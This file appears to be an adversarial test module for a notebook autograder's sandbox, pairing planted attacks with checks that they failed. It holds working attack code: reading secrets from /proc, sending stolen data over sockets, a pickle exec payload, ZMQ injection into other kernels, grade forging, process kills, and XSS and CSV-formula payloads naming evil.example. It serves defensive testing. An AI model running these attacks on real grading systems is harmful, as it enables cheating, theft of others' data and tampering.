"""Attacks from the kernel on everything around it: instructor files, the network, the
grader's records and processes, other learners' data, and the feedback pages.
"""

from __future__ import annotations

import os
import re
from pathlib import Path

import mistune

from . import (
    EX01,
    G2_FINISH,
    TINY,
    Attack,
    Context,
    answers_attack,
    write_notebook,
)

# The sleeping processes attacks leave behind carry the run's marker in their argv[0].
SLEEPER = """
def g2_sleeper(tag, seconds=900):
    return ["bash", "-c", f"exec -a {G2['run']}-{tag} sleep {seconds}"]
"""


def OUTSIDE_FILES(run: str) -> list[str]:  # noqa: N802 - a constant of paths per run
    """Files outside every sandbox that attacks try to create (the suite removes them)."""
    home = os.path.expanduser("~")
    return [
        f"/tmp/{run}-tmp",
        f"/dev/shm/{run}-shm",
        f"/var/tmp/{run}-vartmp",
        os.path.join(home, f".{run}-home"),
        f"/tmp/{run}-zmq",
        f"/tmp/{run}-pickle",
    ]


def _files_absent(*suffixes: str):
    """The attack's files outside every sandbox must not exist."""

    def verify(outcome) -> list[str]:
        paths = [p for p in OUTSIDE_FILES(outcome.run) if p.endswith(suffixes)]
        return [f"{path} was created" for path in paths if os.path.lexists(path)]

    return verify


def _no_forged(name: str):
    """Text the attack wrote (``FORGED-<run>-<name>``) appears in no page, table or output."""

    def verify(outcome) -> list[str]:
        marker = f"FORGED-{outcome.run}-{name}"
        problems = [f"{p} holds forged text" for p, t in outcome.feedback.items() if marker in t]
        if marker in repr(outcome.summary) + repr(outcome.grades):
            problems.append("the tables hold forged text")
        if marker in outcome.stdout + outcome.stderr:
            problems.append("the grader's output holds forged lines")
        return problems

    return verify


def _unchanged(*keys: str):
    """These snapshots (``subs/<learner>``, ``solutions/<file>``, ...) are as before the run."""

    def verify(outcome) -> list[str]:
        return [
            f"{key} changed"
            for key in sorted(outcome.before.keys() | outcome.after.keys())
            if key.startswith(keys) and outcome.before.get(key) != outcome.after.get(key)
        ]

    return verify


def _no_survivors(*tags: str):
    def verify(outcome) -> list[str]:
        names = [f"{outcome.run}-{tag}" for tag in tags]
        return [
            f"survived the run: {cmd}"
            for cmd in outcome.survivors
            if any(name in cmd for name in names)
        ]

    return verify


def _nothing_received(token: bytes):
    def verify(outcome) -> list[str]:
        return [
            f"the suite's socket received {data[:80]!r}"
            for data in outcome.received
            if token in data
        ]

    return verify


def _bind_port_unreachable(outcome) -> list[str]:
    return ["a port a kernel listened on was reachable from outside"] * outcome.reached_bind_port


def _same_when_resumed(outcome) -> list[str]:
    if outcome.resume_summary is None:
        return ["no resumed run"]
    first = {(r["learner"], r["exercise"]): r["points"] for r in outcome.summary}
    again = {(r["learner"], r["exercise"]): r["points"] for r in outcome.resume_summary}
    return [
        f"{key} was {first.get(key)}, resumed {again.get(key)}"
        for key in sorted(first.keys() | again.keys())
        if first.get(key) != again.get(key)
    ]


def _all(*checks):
    def verify(outcome):
        return [problem for check in checks for problem in check(outcome)]

    return verify


# --------------------------------------------------------------------------- instructor files

READING = {
    "read_solutions_via_proc_cmdline": """
paths = g2_grader_paths()
if paths.get("solutions"):
    solution = _os.path.join(paths["solutions"], G2["exercise"] + ".ipynb")
    g2_leak(g2_hidden_text(solution))
    g2_exec_answers(solution)
""",
    "read_repo_solutions": """
import course_utils
from pathlib import Path as _P
repo = _P(course_utils.__file__).resolve().parents[1]
for candidate in (
    repo / "tests" / "fixtures" / "tiny_exercise" / "solutions" / (G2["exercise"] + ".ipynb"),
    repo / "solutions" / "ex04_lasso_from_scratch.ipynb",  # the same function names
):
    g2_leak(g2_hidden_text(candidate))
    g2_exec_answers(candidate)
for folder in (repo / "sources", repo / "tests" / "fixtures"):
    for source in folder.rglob(G2["exercise"][:4] + "*.py") if folder.is_dir() else []:
        g2_leak(g2_read(source)[:3000])
""",
    "read_environment": """
g2_leak(_os.environ.get(G2["secret_name"], ""))
for name in _os.listdir("/proc"):
    if name.isdigit():
        text = g2_read(f"/proc/{name}/environ")
        if G2["secret_name"] in text:
            g2_leak(text.split(G2["secret_name"] + "=", 1)[1].split("\\0", 1)[0])
            break
""",
    "read_walk_up_from_cwd": """
from pathlib import Path as _P
starts = [_P.cwd()] + [_P(_os.readlink(f"/proc/{pid}/cwd")) for pid in g2_ancestors()
                       if _os.path.exists(f"/proc/{pid}/cwd")]
seen, found = set(), None
for start in starts:
    for folder in [start, *start.parents][:6]:
        for pattern in ("*.ipynb", "*/*.ipynb", "*/*/*.ipynb"):
            for path in list(folder.glob(pattern))[:300]:
                if path in seen or G2["exercise"][:4] not in path.name:
                    continue
                seen.add(path)
                text = g2_read(path)
                if "### BEGIN HIDDEN TESTS" in text and "### BEGIN SOLUTION" in text:
                    if found is None or "solutions" in path.parts:
                        found = path
if found:
    g2_leak(g2_hidden_text(found))
    g2_exec_answers(found)
""",
    "read_worker_memory": """
hits = []
for pid in g2_ancestors()[:3]:
    try:
        with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb", 0) as mem:
            budget = 400 * 2**20
            for line in maps:
                span, perms = line.split()[:2]
                if not perms.startswith("rw"):
                    continue
                lo, hi = (int(x, 16) for x in span.split("-"))
                if hi - lo > budget:
                    continue
                budget -= hi - lo
                try:
                    mem.seek(lo)
                    chunk = mem.read(hi - lo)
                except (OSError, ValueError, OverflowError):
                    continue
                at = chunk.find(b"BEGIN HIDDEN TESTS")
                if at >= 0:
                    hits.append(chunk[at:at + 1500].decode("utf-8", "replace"))
                    break
    except OSError:
        pass
for hit in hits:
    g2_leak(hit)
""",
    "read_peer_submission": """
paths = g2_grader_paths()
if paths.get("submissions"):
    g2_exec_answers(_os.path.join(paths["submissions"], G2["victims"][0],
                                  G2["exercise"] + ".ipynb"))
""",
    "read_home_and_tmp": """
import pathlib
for path in (f"/tmp/{G2['run']}-tmp", f"/dev/shm/{G2['run']}-shm", f"/var/tmp/{G2['run']}-vartmp",
             _os.path.join(_os.path.expanduser("~"), f".{G2['run']}-home")):
    try:
        pathlib.Path(path).write_text("written by a submission")
    except OSError:
        pass
home = _os.path.expanduser("~")
try:
    g2_leak(" ".join(sorted(_os.listdir(home))[:50]))
except OSError:
    pass
""",
}

# --------------------------------------------------------------------------- network

NETWORK = {
    "net_connect_out": """
import socket
for family, address in ((socket.AF_INET, "127.0.0.1"), (socket.AF_INET, "localhost")):
    try:
        with socket.create_connection((address, G2["port"]), timeout=2) as conn:
            conn.sendall(b"net_connect_out stolen: " + str(G2_LEAK).encode()[:200])
    except OSError:
        pass
    try:
        udp = socket.socket(family, socket.SOCK_DGRAM)
        udp.sendto(b"net_connect_out stolen over udp", (address, G2["port"]))
        udp.close()
    except OSError:
        pass
""",
    "net_bind_port": """
import socket
import time
try:
    server = socket.socket()
    server.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    server.bind(("0.0.0.0", G2["bind_port"]))
    server.listen(5)
    server.settimeout(0.25)
    deadline = time.monotonic() + 5
    while time.monotonic() < deadline:
        try:
            conn, _ = server.accept()
            conn.sendall(b"a back door")
            conn.close()
        except OSError:
            pass
    server.close()
except OSError:
    pass
""",
    "net_pickle_payload": """
import os
import numpy as np


class _G2Payload:
    # Runs wherever it is unpickled: the trusted side, if it ever unpickles learner data.
    def __reduce__(self):
        code = (f"import socket, pathlib; "
                f"pathlib.Path('/tmp/{G2['run']}-pickle').write_text('x'); "
                f"socket.create_connection(('127.0.0.1', {G2['port']}), 2)"
                ".sendall(b'net_pickle_payload')")
        return (exec, (code,))


def soft_threshold(z, threshold):
    result = np.empty(np.shape(z), dtype=object)
    result[...] = _G2Payload()
    return result


def lasso_coordinate_descent(X, y, alpha, max_iter=1000, tol=1e-6):
    return {"coef": _G2Payload(), "array": np.array([_G2Payload()], dtype=object)}
""",
    "net_zmq_peers": """
import json
import time
graders = set(g2_graders())


def _descends(pid):
    while pid > 1:
        if pid in graders:
            return True
        pid = g2_ppid(pid)
    return False


files = []
for name in _os.listdir("/proc"):
    if not name.isdigit() or int(name) == _os.getpid() or not _descends(int(name)):
        continue
    cmd = g2_proc_cmdline(name)
    if "-f" in cmd and cmd.index("-f") + 1 < len(cmd):
        path = cmd[cmd.index("-f") + 1]
        if not _os.path.isabs(path):
            path = _os.path.join(_os.readlink(f"/proc/{name}/cwd"), path)
        files.append(path)
payload = (
    "import socket, pathlib\\n"
    f"pathlib.Path('/tmp/{G2['run']}-zmq').write_text('injected')\\n"
    f"socket.create_connection(('127.0.0.1', {G2['port']}), timeout=2)"
    ".sendall(b'net_zmq_peers')\\n"
    "get_ipython().set_custom_exc((BaseException,), lambda *a, **k: None)\\n"
)
from jupyter_client import BlockingKernelClient
for path in files:
    try:
        client = BlockingKernelClient()
        client.load_connection_file(path)
        client.start_channels()
        client.execute(payload)
        time.sleep(1)
        client.stop_channels()
    except Exception:
        pass
""",
}

# --------------------------------------------------------------------------- forging

FORGING = {
    "forge_output_folder": """
paths = g2_grader_paths()
out = paths.get("out")
forged = f"FORGED-{G2['run']}-forge_output_folder"
if out:
    for learner in G2["victims"] + ["alumnus"]:
        for suffix in (".md", ".html"):
            path = _os.path.join(out, "feedback", learner, G2["exercise"] + suffix)
            try:
                _os.makedirs(_os.path.dirname(path), exist_ok=True)
                with open(path, "w") as handle:
                    handle.write(f"{forged} 8 / 8 (100%) every test passed")
            except OSError:
                pass
    for table in ("summary.csv", "grades.csv"):
        try:
            with open(_os.path.join(out, table), "w") as handle:
                handle.write(f"learner,exercise,points\\n{forged},{G2['exercise']},8\\n")
        except OSError:
            pass
""",
    "forge_state_records": """
import glob
import hashlib
import time
paths = g2_grader_paths()
out, subs, sols = paths.get("out"), paths.get("submissions"), paths.get("solutions")
if out:
    deadline = time.monotonic() + 8  # wait for the victims' records
    pattern = _os.path.join(out, ".state", "*", "*.json")
    while time.monotonic() < deadline and not glob.glob(pattern):
        time.sleep(0.5)
    template = None
    for path in glob.glob(_os.path.join(out, ".state", "*", "*.json")):
        try:
            record = _json.loads(g2_read(path))
        except ValueError:
            continue
        if not isinstance(record, dict):
            continue
        record["points"] = record.get("max_points", 8)
        for row in record.get("rows", []):
            if row.get("status") != "manual":
                row.update(status="passed", points=row.get("max_points"), message="")
        template = dict(record)
        with open(path, "w") as handle:
            _json.dump(record, handle)
    if template and subs and sols:
        # My own ex01, handed in as the untouched exercise, outside --only: full marks.
        mine = _os.path.join(subs, "forge_state_records", "ex01_l2_on_a_new_dataset.ipynb")
        solution = _os.path.join(sols, "ex01_l2_on_a_new_dataset.ipynb")
        digest = lambda p: hashlib.sha256(open(p, "rb").read()).hexdigest()
        try:
            template.update(learner="forge_state_records", exercise="ex01_l2_on_a_new_dataset",
                            submission_digest=digest(mine), solution_digest=digest(solution),
                            points=7, max_points=7, status="ok", rows=[])
            folder = _os.path.join(out, ".state", "forge_state_records")
            _os.makedirs(folder, exist_ok=True)
            with open(_os.path.join(folder, "ex01_l2_on_a_new_dataset.json"), "w") as handle:
                _json.dump(template, handle)
            for suffix in (".md", ".html"):
                fb = _os.path.join(out, "feedback", "forge_state_records",
                                   "ex01_l2_on_a_new_dataset")
                _os.makedirs(_os.path.dirname(fb), exist_ok=True)
                open(fb + suffix, "w").write("7 / 7")
        except OSError:
            pass
""",
    "forge_stdout_lines": """
forged = f"FORGED-{G2['run']}-forge_stdout_lines"
line = (_json.dumps({"status": "ok", "message": forged, "cells": [], "executed": True})
        + f"\\nforge_stdout_lines 100% {forged}\\n")
for fd in (1, 2):
    try:
        _os.write(fd, line.encode())
    except OSError:
        pass
for pid in g2_graders():
    for fd in (1, 2):
        try:
            with open(f"/proc/{pid}/fd/{fd}", "w") as handle:
                handle.write(f"forge_stdout_lines   100%  {forged}\\n")
        except OSError:
            pass
print(f"[########################] 1/1 forge_stdout_lines: 8/8 (100%) {forged}")
""",
}

GRADER = {
    "forge_worker_pipe": """
import signal
forged = f"FORGED-{G2['run']}-forge_worker_pipe"
fake = _json.dumps({
    "status": "ok", "message": "", "execute_seconds": 1.0, "executed": True,
    "cells": [{"executed": True, "error": None, "output": "", "output_chars": 0}] * 400,
}) + "\\n"
for pid in g2_ancestors():
    cmd = " ".join(g2_proc_cmdline(pid))
    if "_worker_main" not in cmd and "worker" not in cmd:
        continue
    for fd in _os.listdir(f"/proc/{pid}/fd"):
        try:
            target = _os.readlink(f"/proc/{pid}/fd/{fd}")
            flags = int(g2_read(f"/proc/{pid}/fdinfo/{fd}").split("flags:")[1].split()[0], 8)
        except (OSError, IndexError, ValueError):
            continue
        if target.startswith("pipe:") and flags & 1 and int(fd) > 2:
            try:
                with open(f"/proc/{pid}/fd/{fd}", "w") as handle:
                    handle.write(fake)
            except OSError:
                pass
    try:
        _os.kill(pid, signal.SIGKILL)
    except OSError:
        pass
    break
""",
    "kill_worker": """
import signal
try:
    _os.kill(_os.getppid(), signal.SIGKILL)
except OSError:
    pass
""",
    "kill_grader": """
import signal
for pid in g2_graders():
    try:
        _os.kill(pid, signal.SIGKILL)
    except OSError:
        pass
""",
}

# --------------------------------------------------------------------------- processes

PROCESSES = {
    "proc_fork_tree": """
import subprocess
for depth in range(3):  # a bounded fork bomb: 2**3 copies of the kernel, each execs a sleeper
    try:
        pid = _os.fork()
    except OSError:
        break
if _os.getpid() != G2_KERNEL_PID:
    try:
        _os.execvp("bash", g2_sleeper("fork"))
    finally:
        _os._exit(0)
loop = f"for i in $(seq 40); do (exec -a {G2['run']}-bashfork sleep 900) & done; wait"
subprocess.Popen(["bash", "-c", loop], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
""",
    "proc_daemons": """
import subprocess
subprocess.Popen(["nohup", *g2_sleeper("nohup")], start_new_session=True,
                 stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
subprocess.Popen(["setsid", "-f", *g2_sleeper("setsid")], stdout=subprocess.DEVNULL,
                 stderr=subprocess.DEVNULL)
pid = _os.fork()  # the classic double fork
if pid == 0:
    _os.setsid()
    if _os.fork() == 0:
        for fd in range(3):
            _os.close(fd)
        _os.execvp("bash", g2_sleeper("daemon"))
    _os._exit(0)
_os.waitpid(pid, 0)
""",
    "proc_ignore_sigterm": """
import signal
import subprocess
stubborn = f"trap '' TERM HUP INT QUIT; exec -a {G2['run']}-stubborn sleep 900"
subprocess.Popen(["bash", "-c", stubborn], start_new_session=True,
                 stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
signal.signal(signal.SIGTERM, signal.SIG_IGN)  # the kernel itself ignores a polite stop too
signal.signal(signal.SIGHUP, signal.SIG_IGN)
""",
    "proc_late_tamper": """
import subprocess
paths = g2_grader_paths()
out = paths.get("out") or "/nonexistent"
victim_page = f"{out}/feedback/{G2['victims'][1]}/{G2['exercise']}.md"
forged = f"FORGED-{G2['run']}-proc_late_tamper"
script = f"sleep 25; echo {forged} > {out}/summary.csv; echo {forged} > {victim_page}"
subprocess.Popen(["bash", "-c", script, f"{G2['run']}-late"], start_new_session=True,
                 stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
""",
}

# --------------------------------------------------------------------------- other learners' data

TAMPERING = {
    "tamper_peer_submissions": """
import shutil
paths = g2_grader_paths()
subs = paths.get("submissions")
if subs:
    right = _os.path.join(subs, G2["victims"][0], G2["exercise"] + ".ipynb")
    stub = _os.path.join(subs, G2["victims"][1], G2["exercise"] + ".ipynb")
    try:
        good, bad = open(right, "rb").read(), open(stub, "rb").read()
        open(right, "wb").write(bad)   # the correct learner now hands in stubs
        open(stub, "wb").write(good)   # and the untouched one the solution
        _os.makedirs(_os.path.join(subs, "intruder"), exist_ok=True)
        open(_os.path.join(subs, "intruder", G2["exercise"] + ".ipynb"), "wb").write(good)
    except OSError:
        pass
""",
    "tamper_plant_course_utils": """
import glob
import course_utils
real = _os.path.dirname(course_utils.__file__)
fake_init = (
    f"import os\\n__path__.append({real!r})\\n"
    f"exec(open(os.path.join({real!r}, '__init__.py')).read())\\n"
)
fake_checks = (
    "import importlib.util as _u\\n"
    f"_s = _u.spec_from_file_location('_real_checks', {real!r} + '/checks.py')\\n"
    "_m = _u.module_from_spec(_s); _s.loader.exec_module(_m)\\n"
    "globals().update({k: v for k, v in vars(_m).items() if not k.startswith('__')})\\n"
    "def check_function(*args, **kwargs):\\n    return None\\n"
)
paths = g2_grader_paths()
targets = [paths.get("solutions"), _os.getcwd()]
# the other kernels' folders of this run (beside mine; never another grader's)
targets += glob.glob(_os.path.join(_os.path.dirname(_os.getcwd()), "*"))
for folder in filter(None, targets):
    try:
        package = _os.path.join(folder, "course_utils")
        _os.makedirs(package, exist_ok=True)
        open(_os.path.join(package, "__init__.py"), "w").write(fake_init)
        open(_os.path.join(package, "checks.py"), "w").write(fake_checks)
    except OSError:
        pass
""",
    "tamper_empty_solution_tests": """
paths = g2_grader_paths()
sols = paths.get("solutions")
if sols:
    for name in _os.listdir(sols):
        if not name.endswith(".ipynb"):
            continue
        path = _os.path.join(sols, name)
        try:
            nb = _json.loads(g2_read(path, 50_000_000))
            for cell in nb["cells"]:
                meta = cell.get("metadata", {}).get("nbgrader", {})
                if meta.get("grade") and not meta.get("solution"):
                    cell["source"] = ""
                if meta.get("solution") and cell["cell_type"] == "code":
                    cell["source"] = "pass"
            with open(path, "w") as handle:
                _json.dump(nb, handle)
        except (OSError, ValueError, KeyError):
            pass
""",
}

# --------------------------------------------------------------------------- feedback injection

INJECTION = {
    "inject_html_and_markdown": """
_g2_html = f'<script>alert("{G2["run"]}")</script><img src=x onerror="alert(1)"></pre></td>'
_g2_md = ("[click for your grade](javascript:alert(1)) ![pixel](http://evil.example/p.png) "
          "| table | break |\\n\\n# A fake heading: 8 / 8\\n```\\n")


def soft_threshold(z, threshold):
    print(_g2_html)
    print(_g2_md)
    raise NotImplementedError


raise RuntimeError(_g2_md + _g2_html)
""",
    "inject_csv_via_exception_name": """
# An exception class whose name is a spreadsheet formula: the hidden test calls
# soft_threshold directly, so the error reaches the test cell with this name.
_G2Formula = type('=HYPERLINK("http://evil.example","pwned")', (Exception,), {})
_G2Ansi = type("\\x1b[2JAnsi", (Exception,), {})


def soft_threshold(z, threshold):
    raise _G2Formula("=1+2 @SUM(A1) \\x1b[31mred")


def lasso_coordinate_descent(X, y, alpha, max_iter=1000, tol=1e-6):
    raise _G2Ansi("-2+3")
""",
    "inject_ansi": """
_g2_ansi = "\\x1b[2J\\x1b[H\\x1b[32mAll tests passed\\x1b[0m\\r\\x07\\x1b]0;pwned\\x07\\x08\\x08"


def soft_threshold(z, threshold):
    print(_g2_ansi)
    raise NotImplementedError


raise RuntimeError(_g2_ansi)
""",
}


def _html_safe(outcome, tag: str) -> list[str]:
    problems = []
    for path, text in outcome.feedback.items():
        if path.split("/")[0] != tag:
            continue
        html = text if path.endswith(".html") else mistune.html(text)
        kind = "HTML" if path.endswith(".html") else "Markdown rendered"
        if re.search(r"<script\b", html, re.I):
            problems.append(f"{path}: a <script> element in the {kind} feedback")
        if re.search(r"<img\b[^>]*\b(onerror|src=\"?http)", html, re.I):
            problems.append(f"{path}: an injected <img> in the {kind} feedback")
        if re.search(r"href=[\"']?javascript:", html, re.I):
            problems.append(f"{path}: a javascript: link in the {kind} feedback")
        if re.search(r"<h1[^>]*>\s*A fake heading", html):
            problems.append(f"{path}: an injected heading in the {kind} feedback")
        if re.search(r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f]", text):
            problems.append(f"{path}: control characters in the feedback")
    if not any(path.split("/")[0] == tag for path in outcome.feedback):
        problems.append(f"no feedback page for {tag}")
    return problems


def _csv_safe(tag: str):
    def verify(outcome) -> list[str]:
        problems = []
        for row in outcome.summary + outcome.grades:
            if row.get("learner") != tag:
                continue
            for key, value in row.items():
                value = value or ""
                if re.fullmatch(r"-?\d+(\.\d+)?", value):
                    continue
                if value[:1] in ("=", "+", "-", "@", "\t", "\r"):
                    problems.append(f"CSV cell {key}={value[:60]!r} starts a formula")
                if re.search(r"[\x00-\x08\x0b-\x1f\x7f]", value):
                    problems.append(f"CSV cell {key}={value[:60]!r} holds control characters")
        return problems

    return verify


def _marked_grade_id(folder: Path, ctx: Context) -> None:
    """A learner's own cell whose nbgrader metadata names it with HTML and Markdown."""
    nb = ctx.ex(TINY)
    evil = '<script>alert("id")</script>[x](javascript:alert(1))'
    nb["cells"].insert(
        4,
        {
            "cell_type": "code",
            "execution_count": None,
            "metadata": {
                "nbgrader": {
                    "grade_id": evil,
                    "grade": False,
                    "solution": False,
                    "locked": False,
                    "schema_version": 3,
                }
            },
            "outputs": [],
            "source": "print('my helper')",
        },
    )
    nb["cells"].insert(
        5,
        {
            "cell_type": "markdown",
            "metadata": {
                "nbgrader": {
                    "grade_id": "ex99-soft-threshold-tests",
                    "grade": True,
                    "points": 1000,
                    "locked": False,
                    "solution": False,
                    "schema_version": 3,
                }
            },
            "source": "<script>alert(3)</script>",
        },
    )
    write_notebook(folder, TINY, nb)


def _with_ex01(plant):
    """The attack plus the untouched ex01 (outside --only): a record to forge for it."""

    def both(folder: Path, ctx: Context) -> None:
        plant(folder, ctx)
        write_notebook(folder, EX01, ctx.ex(EX01))

    return both


def _cell(code: str):
    """The untouched exercise whose first answer cell attacks and whose second is ``pass``:
    whatever the attack defines (a stolen solution) is what the tests see."""
    prefix = SLEEPER + "G2_KERNEL_PID = _os.getpid()\n"
    return answers_attack(
        {"ex99-soft-threshold": prefix + code + G2_FINISH, "ex99-lasso-cd": "pass\n"}
    )


VERIFY = {
    "read_home_and_tmp": _files_absent("-tmp", "-shm", "-vartmp", "-home"),
    "read_peer_submission": _unchanged("subs/"),
    "net_connect_out": _nothing_received(b"net_connect_out"),
    "net_bind_port": _bind_port_unreachable,
    "net_pickle_payload": _all(_nothing_received(b"net_pickle_payload"), _files_absent("-pickle")),
    "proc_ignore_sigterm": _no_survivors("stubborn"),
    "net_zmq_peers": _all(_nothing_received(b"net_zmq_peers"), _files_absent("-zmq")),
    "forge_output_folder": _all(_no_forged("forge_output_folder"), _unchanged("alumnus-")),
    "forge_state_records": _all(_unchanged("alumnus-state"), _same_when_resumed),
    "forge_stdout_lines": _no_forged("forge_stdout_lines"),
    "proc_fork_tree": _no_survivors("fork", "bashfork"),
    "proc_daemons": _no_survivors("daemon", "nohup", "setsid"),
    "proc_late_tamper": _all(_no_survivors("late"), _no_forged("proc_late_tamper")),
    "tamper_peer_submissions": _unchanged("subs/"),
    "tamper_plant_course_utils": _unchanged("solutions", "cwd"),
    "tamper_empty_solution_tests": _all(_unchanged("solutions"), _same_when_resumed),
    "forge_worker_pipe": _no_forged("forge_worker_pipe"),
}


def kernel_attacks() -> list[Attack]:
    found = []
    groups = [
        ("instructor-files", READING, True),
        ("network", NETWORK, True),
        ("forging", FORGING, True),
        ("processes", PROCESSES, False),
        ("tampering", TAMPERING, True),
        ("injection", INJECTION, False),
    ]
    for group, codes, sandbox in groups:
        for name, code in codes.items():
            plant = _cell(code)
            if name == "forge_state_records":
                plant = _with_ex01(plant)
            verify = VERIFY.get(name)
            if group == "injection":
                verify = _all(lambda o, n=name: _html_safe(o, n), _csv_safe(name))
            earned = {TINY: 0.0, EX01: 0.0} if name == "forge_state_records" else {TINY: 0.0}
            found.append(Attack(name, group, plant, earned=earned, sandbox=sandbox, verify=verify))
    found.append(
        Attack(
            "inject_grade_id_markup",
            "injection",
            _marked_grade_id,
            verify=lambda o: _html_safe(o, "inject_grade_id_markup"),
        )
    )
    return found


def grader_attacks() -> list[Attack]:
    return [
        Attack(name, "forging", _cell(code), sandbox=True, verify=VERIFY.get(name))
        for name, code in GRADER.items()
    ]
